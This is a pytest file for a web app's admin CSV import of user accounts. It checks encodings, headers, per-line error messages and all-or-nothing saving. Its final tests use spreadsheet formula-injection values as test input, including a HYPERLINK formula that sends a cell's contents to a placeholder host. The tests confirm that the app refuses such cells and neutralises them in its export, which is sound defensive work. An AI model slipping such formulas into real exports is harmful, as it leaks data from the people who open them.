"""CSV import of accounts: encodings, headers, errors by line, all or nothing."""
import io

from sqlalchemy import func, select

from minutes.extensions import db
from minutes.people.models import User
from minutes.people.service import get_department, user_by_username

GOOD_CSV = "部门,姓名,用户名,邮箱,职位\n客服部,孙丽,sunli,sunli@example.com,客服主管\n产品部,陈静,chenjing,,项目助理\n"


def departments(*names):
    for name in names:
        get_department(name, create=True)
    db.session.commit()


def upload(client, data: bytes, password="chushi-2026", filename="人员.csv", **extra):
    form = {"file": (io.BytesIO(data), filename), "password": password}
    form.update(extra)
    return client.post("/admin/users/import", data=form, content_type="multipart/form-data")


def usernames():
    return set(db.session.scalars(select(User.username)))


def test_csv_import_creates_every_account_with_the_initial_password(client, admin, app):
    departments("客服部", "产品部")
    response = upload(client, GOOD_CSV.encode("utf-8"))
    assert response.status_code == 200
    html = response.get_data(as_text=True)
    assert "已导入 2 个账号" in html and "sunli" in html and "chenjing" in html
    sunli = user_by_username("sunli")
    assert (sunli.name, sunli.department.name, sunli.email, sunli.title) == ("孙丽", "客服部", "sunli@example.com", "客服主管")
    assert user_by_username("chenjing").email is None
    assert app.test_client().post("/login", data={"username": "chenjing", "password": "chushi-2026"}).status_code == 302


def test_csv_with_utf8_bom_from_excel_imports(client, admin):
    departments("客服部", "产品部")
    response = upload(client, GOOD_CSV.encode("utf-8-sig"))
    assert response.status_code == 200
    assert {"sunli", "chenjing"} <= usernames()


def test_gbk_encoded_csv_from_excel_imports(client, admin):
    departments("客服部", "产品部")
    data = GOOD_CSV.replace("\n", "\r\n").encode("gbk")
    response = upload(client, data)
    assert response.status_code == 200, response.get_data(as_text=True)
    assert user_by_username("sunli").name == "孙丽"
    assert user_by_username("chenjing").department.name == "产品部"


def test_english_headers_in_any_order_are_accepted(client, admin):
    departments("客服部")
    data = "Username,Name,Department,Email\nsunli,孙丽,客服部,sunli@example.com\n".encode()
    assert upload(client, data).status_code == 200
    assert user_by_username("sunli").department.name == "客服部"


def test_rows_pasted_from_excel_as_tab_separated_text_import(client, admin):
    departments("客服部")
    pasted = "部门\t姓名\t用户名\t邮箱\n客服部\t孙丽\tsunli\tsunli@example.com\n"
    response = client.post("/admin/users/import", data={"text": pasted, "password": "chushi-2026"})
    assert response.status_code == 200
    assert user_by_username("sunli").email == "sunli@example.com"


def test_unknown_department_is_reported_by_line_and_nothing_is_saved(client, admin):
    departments("客服部", "产品部")
    before = usernames()
    data = (GOOD_CSV + "采购部,王五,wangwu,wangwu@example.com,\n").encode()
    response = upload(client, data)
    assert response.status_code == 422
    html = response.get_data(as_text=True)
    assert "第4行：部门“采购部”不存在" in html
    assert usernames() == before


def test_line_numbers_count_blank_lines_as_the_file_shows_them(client, admin):
    departments("客服部")
    data = "部门,姓名,用户名\n\n客服部,孙丽,sunli\n\n采购部,王五,wangwu\n".encode()
    html = upload(client, data).get_data(as_text=True)
    assert "第5行：部门“采购部”不存在" in html


def test_duplicate_username_inside_csv_is_reported_with_both_lines(client, admin):
    departments("客服部", "产品部")
    before = usernames()
    data = (GOOD_CSV + "产品部,孙丽丽,sunli,,\n").encode()
    response = upload(client, data)
    assert response.status_code == 422
    assert "第4行：用户名“sunli”与第2行重复" in response.get_data(as_text=True)
    assert usernames() == before


def test_username_already_in_use_is_reported(client, admin, make_user):
    departments("客服部", "产品部")
    make_user("sunli", "孙丽", dept="客服部")
    before = usernames()
    response = upload(client, GOOD_CSV.encode())
    assert response.status_code == 422
    assert "第2行：用户名“sunli”已被使用" in response.get_data(as_text=True)
    assert usernames() == before


def test_every_problem_is_listed_not_just_the_first(client, admin):
    departments("客服部")
    data = "部门,姓名,用户名,邮箱\n采购部,王五,wangwu,\n客服部,,x,bad-email\n".encode()
    html = upload(client, data).get_data(as_text=True)
    for message in ("第2行：部门“采购部”不存在", "第3行：请填写姓名", "第3行：用户名须为2–64位",
                    "第3行：邮箱“bad-email”格式不正确"):
        assert message in html


def test_rejected_file_content_is_kept_in_the_text_box_for_fixing(client, admin):
    departments("客服部")
    data = "部门,姓名,用户名\n采购部,王五,wangwu\n".encode("gbk")
    response = upload(client, data, password="keep-this-pw")
    html = response.get_data(as_text=True)
    assert response.status_code == 422
    assert "采购部,王五,wangwu" in html and 'value="keep-this-pw"' in html
    assert "文件内容已放入下方文本框" in html


def test_empty_file_is_refused(client, admin):
    before = usernames()
    response = upload(client, b"")
    assert response.status_code == 422
    assert "文件是空的" in response.get_data(as_text=True)
    assert usernames() == before


def test_file_with_only_a_header_is_refused(client, admin):
    response = upload(client, "部门,姓名,用户名\n".encode())
    assert response.status_code == 422
    assert "文件只有表头，没有人员" in response.get_data(as_text=True)


def test_missing_required_header_is_named(client, admin):
    departments("客服部")
    response = upload(client, "部门,姓名\n客服部,孙丽\n".encode())
    assert response.status_code == 422
    assert "缺少：用户名" in response.get_data(as_text=True)


def test_short_initial_password_is_refused_and_nothing_saved(client, admin):
    departments("客服部", "产品部")
    before = usernames()
    response = upload(client, GOOD_CSV.encode(), password="123")
    assert response.status_code == 422
    assert "初始密码至少8位" in response.get_data(as_text=True)
    assert usernames() == before


def test_no_file_and_no_text_asks_for_one(client, admin):
    response = client.post("/admin/users/import", data={"password": "chushi-2026", "text": "  "})
    assert response.status_code == 422
    assert "请选择要上传的 CSV 文件" in response.get_data(as_text=True)


def test_sample_csv_downloads_and_imports_as_is(client, admin):
    departments("客服部", "产品部")
    response = client.get("/admin/users/import/sample.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"].startswith("attachment")
    assert response.data.startswith("\ufeff部门,姓名,用户名,邮箱,职位".encode())
    before = db.session.scalar(select(func.count()).select_from(User))
    assert upload(client, response.data).status_code == 200
    assert db.session.scalar(select(func.count()).select_from(User)) == before + 2


def test_import_page_shows_sample_link_and_existing_departments(client, admin):
    departments("客服部")
    html = client.get("/admin/users/import").get_data(as_text=True)
    assert "/admin/users/import/sample.csv" in html and "客服部" in html


def test_cells_a_spreadsheet_would_run_as_formulas_are_refused_by_line(client, admin):
    departments("客服部")
    before = usernames()
    data = ("部门,姓名,用户名,邮箱\n"
            '客服部,"=HYPERLINK(""http://x""&A1,""点击"")",sunli,\n'
            "客服部,王五,-wangwu,\n"
            "+客服部,赵六,zhaoliu,@x@example.com\n"
            '客服部,"钱\t七",qianqi,\n'
            '客服部,"孙\r八",sunba,\n').encode()
    response = upload(client, data)
    assert response.status_code == 422
    html = response.get_data(as_text=True)
    for message in ("第2行：姓名“=HYPERLINK(&#34;http://x&#34;&amp;A1,&#34;点击&#34;)”以“=”开头",
                    "第3行：用户名“-wangwu”以“-”开头", "第4行：部门“+客服部”以“+”开头",
                    "第4行：邮箱“@x@example.com”以“@”开头", "第5行：姓名中有制表符或换行", "第6行：姓名中有制表符或换行"):
        assert message in html, message
    assert "部门“+客服部”不存在" not in html  # one message per cell
    assert "文件中有6处问题，全部未导入" in html
    assert usernames() == before


def test_sample_csv_quotes_a_department_name_a_spreadsheet_would_run(client, admin):
    import csv

    departments('=HYPERLINK("http://x","点击")', "客服部")
    body = client.get("/admin/users/import/sample.csv").get_data().decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    assert "'=HYPERLINK(\"http://x\",\"点击\")" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
